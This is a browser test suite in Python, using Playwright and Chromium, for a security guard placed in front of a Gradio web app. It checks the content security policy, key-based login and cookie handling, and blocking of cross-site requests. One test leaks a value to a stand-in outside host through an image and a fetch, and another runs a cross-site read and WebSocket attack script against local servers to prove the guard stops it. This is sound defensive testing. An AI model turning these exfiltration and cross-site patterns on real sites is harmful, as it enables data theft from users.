"""The guard before a real browser: what Chromium itself sends and refuses, with Gradio's page behind."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import quote

import gradio as gr
import pytest
import uvicorn
from fastapi import FastAPI, WebSocket
from playwright.sync_api import Browser, Page, sync_playwright
from starlette.responses import PlainTextResponse
from starlette.types import ASGIApp, Receive, Scope, Send

from modules.guard import Guard, local_hosts
from modules.instance import listening_socket

KEY = "a key with spaces + signs & ümlauts"
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
OPEN_SOCKET = """() => new Promise(done => {
  const socket = new WebSocket(`ws://${location.host}/ui-api/run`)
  socket.onmessage = event => done(event.data)
  socket.onclose = event => done(event.code)
})"""

pytestmark = pytest.mark.browser


@contextmanager
def listening(app: ASGIApp) -> Iterator[int]:
    """A real server for the application; gives its port."""
    with listening_socket("127.0.0.1", 0) as socket:
        server = uvicorn.Server(uvicorn.Config(app, log_level="warning", ws="websockets-sansio"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [socket]})
        thread.start()
        while not server.started and thread.is_alive():
            time.sleep(0.02)
        try:
            yield socket.getsockname()[1]
        finally:
            server.should_exit = True
            thread.join()


@contextmanager
def serving(key: str | None) -> Iterator[int]:
    """A Gradio page and a WebSocket behind the guard; gives the port."""
    api = FastAPI()

    @api.websocket("/ui-api/run")
    async def run(socket: WebSocket) -> None:
        await socket.accept()
        await socket.send_text("hello")
        await socket.close()

    with gr.Blocks() as page:
        given, upper, go = gr.Textbox(label="in"), gr.Textbox(label="out"), gr.Button("Go")
        gr.HTML(value="", html_template="<b id='mine'></b>", js_on_load="element.querySelector('#mine').textContent = 'ran'")
        go.click(str.upper, given, upper)
    guard = Guard(gr.mount_gradio_app(api, page, path="/"), allowed_hosts=local_hosts(False), api_key=key)
    with listening(guard) as port:
        yield port


@pytest.fixture(scope="module")
def browser(chromium_path: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def keyed() -> Iterator[int]:
    with serving(KEY) as port:
        yield port


@pytest.fixture(scope="module")
def open_port() -> Iterator[int]:
    with serving(None) as port:
        yield port


@contextmanager
def new_page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    try:
        yield context.new_page()
    finally:
        context.close()


def is_open(page: Page) -> None:
    page.wait_for_selector("button:has-text('Go')")


def follow_link(page: Page, from_port: int, url: str) -> None:
    """Click a link on a page of another site: `localhost` and `127.0.0.1` are two sites."""
    page.goto(f"http://localhost:{from_port}/health")
    page.evaluate("url => { document.body.innerHTML = '<a id=link>x</a>'; document.getElementById('link').href = url }", url)
    page.click("#link")


def test_gradios_page_works_under_the_policy_without_a_complaint(browser: Browser, open_port: int) -> None:
    complaints: list[str] = []
    with new_page(browser) as page:
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
        page.goto(f"http://127.0.0.1:{open_port}/")
        is_open(page)
        page.fill("textarea >> nth=0", "abc")
        page.click("button:has-text('Go')")
        page.wait_for_function("document.querySelectorAll('textarea')[1].value === 'ABC'")
        assert page.inner_text("#mine") == "ran"
        assert page.evaluate(OPEN_SOCKET) == "hello"
    assert complaints == []


def test_the_policy_stops_a_picture_and_a_request_to_another_host(browser: Browser, open_port: int) -> None:
    script = """() => new Promise(done => {
      const seen = []
      document.addEventListener('securitypolicyviolation', event => {
        seen.push(event.violatedDirective)
        if (seen.length == 2) done(seen)
      })
      new Image().src = 'http://other.invalid/?q=secret'
      fetch('http://other.invalid/').catch(() => {})
    })"""
    with new_page(browser) as page:
        page.goto(f"http://127.0.0.1:{open_port}/")
        assert sorted(page.evaluate(script)) == ["connect-src", "img-src"]


def test_a_person_logs_in_once_and_then_everything_opens(browser: Browser, keyed: int) -> None:
    with new_page(browser) as page:
        page.goto(f"http://127.0.0.1:{keyed}/?__theme=dark")
        page.fill("#key", "wrong")
        page.click("button")
        page.wait_for_selector("[role=alert]")
        page.fill("#key", KEY)
        page.click("button")
        is_open(page)
        assert page.url == f"http://127.0.0.1:{keyed}/?__theme=dark"
        assert page.evaluate(OPEN_SOCKET) == "hello"
        assert page.evaluate("document.cookie") == "", "scripts must not see the cookie"


def test_the_printed_link_opens_also_from_another_sites_page_and_leaves_no_key_behind(
        browser: Browser, keyed: int, open_port: int) -> None:
    """SameSite=Strict cookies are not sent along a chain of redirects that another site began."""
    with new_page(browser) as page:
        follow_link(page, open_port, f"http://127.0.0.1:{keyed}/?key={quote(KEY, safe='')}")
        is_open(page)
        assert page.url == f"http://127.0.0.1:{keyed}/"
        follow_link(page, open_port, f"http://127.0.0.1:{keyed}/")
        is_open(page)


def test_the_pages_script_learns_that_the_key_is_needed(browser: Browser, keyed: int) -> None:
    with new_page(browser) as page:
        page.goto(f"http://127.0.0.1:{keyed}/health")
        assert page.evaluate(OPEN_SOCKET) == 4401


ATTACK = """async url => {
  const read = []
  await fetch(url + 'gradio_api/component_server', {method: 'POST', mode: 'no-cors', body: '{}'}).catch(() => {})
  await fetch(url + 'config').then(() => read.push('GET')).catch(() => {})
  await new Promise(done => {
    const socket = new WebSocket(url.replace('http', 'ws') + 'ui-api/run')
    socket.onmessage = () => { read.push('WebSocket'); done() }
    socket.onclose = done
  })
  return read
}"""


def test_another_sites_page_can_neither_post_nor_read_nor_listen(browser: Browser, open_port: int) -> None:
    """The same attack is run on a server without the guard first, to show that it is one."""
    reached: list[str] = []

    async def careless(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "websocket":
            reached.append("WebSocket")
            await WebSocket(scope, receive, send).accept()
            await send({"type": "websocket.send", "text": "secret"})
        else:
            reached.append(scope["method"])  # a lifespan has none: the server goes on without
            await PlainTextResponse("secret", headers={"access-control-allow-origin": "*"})(scope, receive, send)

    guarded = Guard(careless, allowed_hosts=local_hosts(False))
    with listening(careless) as bare, listening(guarded) as port, browser.new_context(bypass_csp=True) as context:
        page = context.new_page()
        page.goto(f"http://localhost:{open_port}/health")
        assert page.evaluate(ATTACK, f"http://127.0.0.1:{bare}/") == ["GET", "WebSocket"]
        assert reached == ["POST", "GET", "WebSocket"]
        reached.clear()
        assert page.evaluate(ATTACK, f"http://127.0.0.1:{port}/") == []
        assert reached == []
